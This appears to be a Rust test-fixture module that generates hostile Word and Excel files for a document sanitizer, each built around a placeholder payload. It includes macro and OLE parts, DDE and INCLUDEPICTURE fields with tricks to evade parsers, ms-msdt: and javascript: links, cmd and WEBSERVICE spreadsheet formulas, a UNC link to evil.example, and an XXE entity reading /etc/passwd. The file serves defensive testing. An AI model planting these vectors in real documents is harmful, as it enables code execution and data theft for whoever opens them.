//! Office documents, made here with what must go out of them.

use crate::samples::{HARM, RawEntry, entry, zip};

const TYPES: &str = "application/vnd.openxmlformats-officedocument";
const RELATIONS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// A document's parts: names, texts.
type Files = Vec<(String, Vec<u8>)>;

/// A relationship: id, last part of its type, target, whether outside.
type Relation<'a> = (&'a str, &'a str, &'a str, bool);

pub(crate) fn relations(list: &[Relation<'_>]) -> Vec<u8> {
    let rows = list.iter().map(|(id, kind, target, is_external)| {
        let mode = if *is_external { " TargetMode=\"External\"" } else { "" };
        format!("<Relationship Id=\"{id}\" Type=\"{RELATIONS}/{kind}\" Target=\"{target}\"{mode}/>")
    });
    let space = "http://schemas.openxmlformats.org/package/2006/relationships";
    format!(
        "<?xml version=\"1.0\"?><Relationships xmlns=\"{space}\">{}</Relationships>",
        rows.collect::<String>()
    )
    .into_bytes()
}

pub(crate) fn pack(files: &Files) -> Vec<u8> {
    let entries: Vec<RawEntry<'_>> = files.iter().map(|(name, data)| entry(name, data)).collect();
    zip(&entries)
}

/// A package with one main part, and what else is given.
pub(crate) fn package(
    main: &str,
    main_type: &str,
    body: &str,
    list: &[Relation<'_>],
    more: &[(&str, &str, &[u8])],
) -> Vec<u8> {
    let mut types = format!(
        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" \
         ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Override PartName=\"/{main}\" ContentType=\"{main_type}\"/>"
    );
    for (name, kind, _) in more {
        types.push_str(&format!("<Override PartName=\"/{name}\" ContentType=\"{kind}\"/>"));
    }
    types.push_str("</Types>");
    let (folder, file) = main.rsplit_once('/').unwrap();
    let mut files: Files = vec![
        ("[Content_Types].xml".into(), types.into_bytes()),
        ("_rels/.rels".into(), relations(&[("rId1", "officeDocument", main, false)])),
        (main.into(), body.as_bytes().to_vec()),
        (format!("{folder}/_rels/{file}.rels"), relations(list)),
    ];
    files.extend(more.iter().map(|(name, _, data)| ((*name).to_owned(), data.to_vec())));
    pack(&files)
}

/// A Word document with this body.
pub(crate) fn word(body: &str, list: &[Relation<'_>], more: &[(&str, &str, &[u8])]) -> Vec<u8> {
    let xml = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" \
         xmlns:r=\"{RELATIONS}\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:v=\"urn:schemas-microsoft-com:vml\">\
         <w:body><w:p><w:r><w:t>金沢市の案内 &amp; 地図</w:t></w:r></w:p>{body}</w:body></w:document>"
    );
    package("word/document.xml", &format!("{TYPES}.wordprocessingml.document.main+xml"), &xml, list, more)
}

/// A workbook with one sheet of these rows.
pub(crate) fn sheet(rows: &str, list: &[Relation<'_>], more: &[(&str, &str, &[u8])]) -> Vec<u8> {
    let space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let book = format!(
        "<workbook xmlns=\"{space}\" xmlns:r=\"{RELATIONS}\"><sheets><sheet name=\"表\" sheetId=\"1\" r:id=\"rId1\"/></sheets>\
        <externalReferences><externalReference r:id=\"rId9\"/></externalReferences><definedNames><definedName name=\"x\">[1]A!B1</definedName></definedNames></workbook>"
    );
    let sheet = format!(
        "<worksheet xmlns=\"{space}\" xmlns:r=\"{RELATIONS}\"><sheetData><row r=\"1\">{rows}</row></sheetData></worksheet>"
    );
    let mut all: Vec<Relation<'_>> = vec![("rId1", "worksheet", "worksheets/sheet1.xml", false)];
    all.extend(list);
    let sheet_type = format!("{TYPES}.spreadsheetml.worksheet+xml");
    let mut parts: Vec<(&str, &str, &[u8])> =
        vec![("xl/worksheets/sheet1.xml", &sheet_type, sheet.as_bytes())];
    parts.extend(more);
    package("xl/workbook.xml", &format!("{TYPES}.spreadsheetml.sheet.main+xml"), &book, &all, &parts)
}

/// Hostile documents: a name, the file, whether it must be refused whole.
pub(crate) fn all() -> Vec<(String, Vec<u8>, bool)> {
    let mut samples: Vec<(String, Vec<u8>, bool)> = Vec::new();
    let harm = std::str::from_utf8(HARM).unwrap();
    let mut add = |name: &str, bytes, refused| samples.push((format!("office: {name}"), bytes, refused));
    let parts: [(&str, &str); 12] = [
        ("vbaProject", "application/vnd.ms-office.vbaProject"),
        ("oleObject", "application/vnd.openxmlformats-officedocument.oleObject"),
        ("package", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("control", "application/vnd.ms-office.activeX+xml"),
        ("aFChunk", "text/html"),
        ("customXml", "application/xml"),
        ("font", "application/x-fontdata"),
        ("video", "video/mp4"),
        ("xlMacrosheet", "application/vnd.ms-excel.macrosheet+xml"),
        ("settings", "application/octet-stream"),
        ("image", "image/x-emf"),
        ("tomorrow", "application/vnd.openxmlformats-officedocument.tomorrow+xml"),
    ];
    for (kind, content_type) in parts {
        let body = "<w:p><w:r><w:object><v:shape/><o:OLEObject r:id=\"rId5\"/></w:object></w:r></w:p>";
        let relation = [("rId5", kind, "odd/part.bin", false)];
        add(kind, word(body, &relation, &[("word/odd/part.bin", content_type, HARM)]), false);
    }
    for kind in
        ["attachedTemplate", "image", "oleObject", "hyperlink", "subDocument", "externalLink", "frame"]
    {
        for address in [
            format!("file:///c:/{harm}"),
            format!("\\\\{harm}\\x"),
            format!("javascript:{harm}"),
            format!("mhtml:http://{harm}"),
        ] {
            let relation = [("rId5", kind, address.as_str(), true)];
            add(&format!("{kind} outside: {address}"), word("<w:p r:id=\"rId5\"/>", &relation, &[]), false);
        }
    }
    for code in
        ["DDEAUTO", "dde", "INCLUDEPICTURE", "INCLUDETEXT", "LINK", "IMPORT", "DATABASE", "MACROBUTTON"]
    {
        let field = |step: &str| format!("<w:r><w:fldChar w:fldCharType=\"{step}\"/></w:r>");
        let (half, rest) = code.split_at(code.len() / 2);
        let text = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
        let long = [
            field("begin"),
            text(half),
            text(rest),
            text(&format!(" {harm}")),
            field("separate"),
            field("end"),
        ]
        .concat();
        add(&format!("field {code}"), word(&format!("<w:p>{long}</w:p>"), &[], &[]), false);
        let short = format!("<w:p><w:fldSimple w:instr=\" {code} {harm}\"><w:r/></w:fldSimple></w:p>");
        add(&format!("short field {code}"), word(&short, &[], &[]), false);
    }
    // What Word passes over says nothing of what it reads, and no part of a code is passed over here.
    let other = "xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:x=\"urn:nobody\" mc:Ignorable=\"x\"";
    let run = |inside: &str| format!("<w:r>{inside}</w:r>");
    let sign = |step: &str| run(&format!("<w:fldChar w:fldCharType=\"{step}\"/>"));
    let code = |code: &str| run(&format!("<w:instrText>{code}</w:instrText>"));
    let dde = format!("DDEAUTO {harm}");
    for (name, inside) in [
        ("a code before it of another space", run("<x:instrText>PAGE </x:instrText>") + &code(&dde)),
        ("a sign of another space", run("<x:fldChar x:fldCharType=\"separate\"/>") + &code(&dde)),
        (
            "a sign's other attribute",
            run("<w:fldChar x:fldCharType=\"separate\" w:fldCharType=\"x\"/>") + &code(&dde),
        ),
        ("a name before it", code("PAGE ") + &code(&dde)),
        ("a text before it", code("TITLE ") + &code(&dde)),
        ("its letters as text", run("<w:t>DDEAUTO </w:t>") + &code(harm)),
        ("a deleted name before it", run("<w:delInstrText>TITLE </w:delInstrText>") + &code(&dde)),
        (
            "one of alternatives",
            format!(
                "<mc:AlternateContent><mc:Choice Requires=\"x\">{}</mc:Choice></mc:AlternateContent>{}",
                code("TITLE "),
                code(harm)
            ),
        ),
        ("a link with another place", code(&format!("HYPERLINK \\l \"a\" \"\\\\{harm}\\x.exe\""))),
    ] {
        let field = sign("begin") + &inside + &sign("separate") + &run("<w:t>1</w:t>") + &sign("end");
        add(&format!("field: {name}"), word(&format!("<w:p {other}>{field}</w:p>"), &[], &[]), false);
    }
    for attributes in [format!("x:instr=\"PAGE\" w:instr=\"{dde}\""), format!("w:instr=\"PAGE {dde}\"")] {
        let body = format!("<w:p {other}><w:fldSimple {attributes}><w:r/></w:fldSimple></w:p>");
        add(&format!("short field: {attributes}"), word(&body, &[], &[]), false);
    }
    for address in ["//", "\\", "C:\\", "ms-msdt:/id ", "javascript:", "mk:", "x/"] {
        let body = format!("<w:p><w:r><w:pict><v:shape href=\"{address}{harm}\"/></w:pict></w:r></w:p>");
        add(&format!("a shape's address: {address}"), word(&body, &[], &[]), false);
    }
    let quoted = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>".repeat(2)
        + &format!(
            "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:instrText> {harm}</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
        );
    add("a field made by a field", word(&format!("<w:p>{quoted}</w:p>"), &[], &[]), false);
    for formula in [
        format!("cmd|'/c {harm}'!A0"),
        format!("[1]{harm}!A1"),
        format!("WEBSERVICE(\"{harm}\")"),
        format!("CALL(\"{harm}\")"),
        format!("'\\\\evil.example\\{harm}\\[a.xlsx]S'!A1"),
        format!("'http://{harm}/[a.xlsx]S'!A1"),
        format!("_xlfn.WEBSERVICE (\"{harm}\")"),
        format!("IF('a\"b'!A1,cmd|'/c {harm}'!A0,\"x\")"),
        format!("HYPERLINK(\"\\\"&amp;\"\\{harm}\")"),
    ] {
        let formula = formula.replace('"', "&quot;");
        add(
            &format!("formula {formula}"),
            sheet(&format!("<c r=\"A1\"><f>{formula}</f><v>1</v></c>"), &[], &[]),
            false,
        );
    }
    let dtd = "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b SYSTEM \"file:///etc/passwd\">]><x>&b;</x>";
    let theme = [("rId5", "theme", "theme.xml", false)];
    let theme_type = format!("{TYPES}.theme+xml");
    add("a DTD", word("", &theme, &[("word/theme.xml", &theme_type, dtd.as_bytes())]), true);
    add("an entity", word("", &theme, &[("word/theme.xml", &theme_type, b"<x>&b;</x>")]), true);
    add(
        "deep XML",
        word("", &theme, &[("word/theme.xml", &theme_type, "<x>".repeat(100_000).as_bytes())]),
        true,
    );
    add("broken XML", word("", &theme, &[("word/theme.xml", &theme_type, b"<x><y></x>")]), true);
    add("a part from outside", word("", &[("rId5", "theme", "../../../etc/passwd", false)], &[]), false);
    add(
        "no main part",
        pack(&vec![
            ("[Content_Types].xml".into(), b"<Types/>".to_vec()),
            ("_rels/.rels".into(), relations(&[])),
        ]),
        true,
    );
    samples
}
